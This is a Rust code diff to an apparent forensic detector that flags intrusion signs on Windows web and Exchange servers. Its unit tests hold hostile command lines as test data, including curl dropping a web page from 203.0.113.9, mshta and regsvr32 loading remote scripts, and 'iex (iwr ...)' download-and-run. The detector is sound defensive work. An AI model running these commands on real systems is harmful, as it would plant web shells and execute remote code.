@@ -10,6 +10,8 @@ use std::io::Read;
 
 /// What is read of a script, a task or a list of scripts.
 pub(super) const MAX_TEXT: u64 = 2 << 20;
+/// Scripts that one names, and those name, that are read.
+const MOST_SCRIPTS: usize = 100;
 /// Lines of a script of which the telling one is looked for.
 const MOST_LINES: usize = 2_000;
 /// Characters of a command that are told.
@@ -36,6 +38,11 @@ pub(super) struct Sign {
 }
 
 impl Sign {
+    /// A script among signed ones: somebody's own, or changed after setup.
+    pub(super) fn unsigned() -> Self {
+        Self { id: "unsigned", points: 25, words: "has no signature, as the others here have" }
+    }
+
     /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
     pub(super) fn prepended() -> Self {
         Self { id: "prepended", points: 30, words: "runs a file before or after every page" }
@@ -76,7 +83,19 @@ impl<'g, 'e> Ground<'g, 'e> {
         let tokens = tokens(&line);
         let program = program(&line);
         signs.extend(self.place(&program, &tokens));
-        for script in tokens.iter().chain([&program]).filter(|token| is_script(token)) {
+        // Whatever it is called, what an interpreter is given is a script.
+        let interpreted = ["wscript", "cscript", "mshta", "python", "php", "perl", "ruby"]
+            .iter()
+            .any(|name| program.rsplit('\\').next().unwrap_or_default().starts_with(name));
+        let given = |at: usize| {
+            let before = at.checked_sub(1).and_then(|at| tokens.get(at)).map_or("", String::as_str);
+            interpreted || matches!(before, "-file" | "-f" | "\\c" | "\\k")
+        };
+        let named = tokens
+            .iter()
+            .enumerate()
+            .filter(|(at, token)| is_script(token) || given(*at) && is_absolute(token) && !is_library(token));
+        for script in named.map(|(_, token)| token).chain([&program].into_iter().filter(|program| is_script(program))) {
             let path = if is_absolute(script) || command.folder.is_empty() {
                 script.clone()
             } else {
@@ -90,16 +109,34 @@ impl<'g, 'e> Ground<'g, 'e> {
         note(plan, file, &signs, &format!("{} ", command.by), &command.line);
     }
 
-    /// Judges a script, which is examined as well.
+    /// Judges a script, and those that it names, which are examined as well.
     pub(super) fn script(&self, script: &ServerPath, title: &str, plan: &mut Plan) {
-        let Some(text) = read(self.evidence, script, plan) else { return };
-        let signs = self.signs(&self.plain(&text), true);
+        let mut waiting = vec![script.clone()];
+        let mut judged = 0;
+        while let Some(script) = waiting.pop() {
+            // One that another command named is judged already.
+            if judged > 0 && plan.files.contains(&script) || judged > MOST_SCRIPTS {
+                continue;
+            }
+            judged += 1;
+            waiting.extend(self.one_script(&script, title, plan));
+        }
+    }
+
+    /// Judges one script and gives those that it names.
+    fn one_script(&self, script: &ServerPath, title: &str, plan: &mut Plan) -> Vec<ServerPath> {
+        let Some(text) = read(self.evidence, script, plan) else { return Vec::new() };
+        let plain = self.plain(&text);
+        let signs = self.signs(&plain, true);
+        let named = tokens(&plain).into_iter().filter(|token| is_script(token) && is_absolute(token));
+        let named = named.take(MOST_SCRIPTS).flat_map(|token| self.files(&token)).collect();
         let mut lines = text.lines().filter(|_| !signs.is_empty()).take(MOST_LINES);
         let excerpt = lines.find(|line| !self.signs(&self.plain(line), false).is_empty());
         if !plan.files.contains(script) {
             plan.files.push(script.clone());
         }
         note(plan, script, &signs, title, excerpt.or(text.lines().next()).unwrap_or_default());
+        named
     }
 
     /// The files of the evidence that a path names.
@@ -143,17 +180,9 @@ impl<'g, 'e> Ground<'g, 'e> {
     }
 
     fn is_web(&self, path: &str) -> bool {
-        const MARKS: &[&str] = &[
-            r"\wwwroot",
-            r"\aspnet_client",
-            r"\frontend\httpproxy",
-            r"\clientaccess\",
-            r"\owa\auth",
-            r"\ecp\auth",
-            r"\web server extensions\",
-            r"\htdocs",
-            r"\webapps",
-        ];
+        // Folders of these names alone are backups too: those that are served are known.
+        const MARKS: &[&str] =
+            &[r"\aspnet_client\", r"\owa\auth\", r"\ecp\auth\", r"\web server extensions\", r"\inetpub\wwwroot\"];
         let path = format!("{}\\", path.trim_end_matches('\\'));
         self.web.iter().any(|folder| path.starts_with(folder)) || MARKS.iter().any(|mark| path.contains(mark))
     }
@@ -212,12 +241,14 @@ impl<'g, 'e> Ground<'g, 'e> {
             add("holds_page", 75, "holds the code of a page");
         }
         let lines: Vec<&str> = text.split(['\n', '\r']).collect();
-        let writes_page = lines.iter().any(|line| writes(line) && tokens(line).iter().any(|token| is_page(token)));
+        // Exchange's own scripts handle its pages and configuration by variables; whole paths are nobody's but an intruder's.
+        let page = |token: &String| is_page(token) && (!signed || is_absolute(token) && self.is_web(token));
+        let writes_page = lines.iter().any(|line| writes(line) && tokens(line).iter().any(page));
         let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
         let by_parts = is_script && !signed && has(WRITERS) && page_there();
         if writes_page || by_parts {
             add("writes_page", 75, "writes server code");
-        } else if lines.iter().any(|line| self.writes_to_web(line)) {
+        } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
             add("writes_to_web_folder", 60, "writes into a web folder");
         }
         signs
@@ -374,11 +405,8 @@ fn is_page(token: &str) -> bool {
     const NO_PAGES: &[&str] = &["cs", "vb", "pl", "cer", "tag", "rem", "skin", "browser"];
     let name = token.rsplit('\\').next().unwrap_or_default();
     let extension = extension(name);
-    !token.contains(":\\\\")
-        && !NO_PAGES.contains(&extension.as_str())
-        && kind::is_server_code(name)
-        && name.len() > extension.len() + 1
-        || name == "web.config"
+    let is_code = kind::is_server_code(name) && !NO_PAGES.contains(&extension.as_str());
+    is_code && !token.contains(":\\\\") && name.len() > extension.len() + 1
 }
 
 pub(super) fn is_script(token: &str) -> bool {
@@ -511,4 +539,68 @@ pub(super) fn read(evidence: &dyn Evidence, file: &ServerPath, plan: &mut Plan) 
     let wide = !bytes.starts_with(b"\xFF\xFE") && !bytes.starts_with(b"\xFE\xFF") && zeros > 20;
     let encoding = if wide { encoding_rs::UTF_16LE } else { encoding_rs::UTF_8 };
     (!bytes.is_empty()).then(|| encoding.decode(&bytes).0.into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::Memory;
+
+    fn signs(line: &str, is_script: bool) -> Vec<&'static str> {
+        let evidence = Memory::new().folder(r"C:\inetpub\wwwroot");
+        let resolver = Resolver::new(&evidence);
+        let mut plan = Plan::default();
+        let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
+        super::super::add(&mut plan, folder.clone(), Role::WebRoot, &folder, true);
+        let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
+        let line = ground.plain(line);
+        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
+        if !is_script {
+            signs.extend(ground.place(&program(&line), &tokens(&line)).iter().map(|sign| sign.id));
+        }
+        signs
+    }
+
+    #[test]
+    fn what_an_intruder_lets_run_is_seen_and_what_others_do_is_not() {
+        for (line, expected) in [
+            (r"cmd /c copy C:\a.txt C:\sites\a\x.aspx", &["writes_page"][..]),
+            (r"cmd /c echo x > C:\sites\a\web.config", &["writes_to_web_folder"]),
+            (r"xcopy C:\data\* C:\sites\a\img /y", &["writes_to_web_folder"]),
+            (r"xcopy C:\sites\a\* D:\backup\ /y", &[]),
+            (r"cmd /c dir /s C:\sites\a\*.aspx > C:\lists\all.txt", &[]),
+            (r"curl -o C:\sites\a\x.ashx http://203.0.113.9/x", &["writes_page"]),
+            (r"curl http://203.0.113.9/x.aspx", &[]),
+            (r"certutil -decode C:\a.txt C:\sites\a\b", &["fetches_file", "writes_to_web_folder"]),
+            (r"mklink /d C:\sites\a\logs C:\logs", &["writes_to_web_folder"]),
+            (r#""C:\sites\a\bin\x.exe" -k"#, &["in_web_folder"]),
+            (r"C:\Windows\Temp\x.exe", &["in_drop_folder"]),
+            (r"C:\ProgramData\x.exe", &["in_drop_folder"]),
+            (r"C:\ProgramData\Vendor\bin\x.exe", &[]),
+            (r"C:\Users\a\AppData\Roaming\x.vbs", &["in_drop_folder"]),
+            (r"rundll32.exe C:\Users\Public\x.dll,Start", &["in_drop_folder"]),
+            (r"\\203.0.113.9\share\x.exe", &["elsewhere"]),
+            ("powershell -ec SQBuAGUAcgB0AEkAbgBlAHIAdAA=", &["encoded"]),
+            ("powershell -ExecutionPolicy Bypass -Encoding UTF8aaaaaaaaaaaaaaaaaaa", &[]),
+            ("mshta http://203.0.113.9/a.hta", &["script_of_elsewhere"]),
+            ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["script_of_elsewhere"]),
+            (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
+        ] {
+            assert_eq!(signs(line, false), expected, "{line}");
+        }
+        assert_eq!(
+            signs("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
+            [""; 0]
+        );
+        assert_eq!(signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true), ["runs_download"]);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn no_text_makes_it_stop(text in proptest::prelude::any::<String>(), piece in "[a-z:\\\\\"' >=/.%-]{0,60}") {
+            signs(&text, true);
+            signs(&piece, false);
+            signs(&format!("copy {piece} {text}"), false);
+        }
+    }
 }
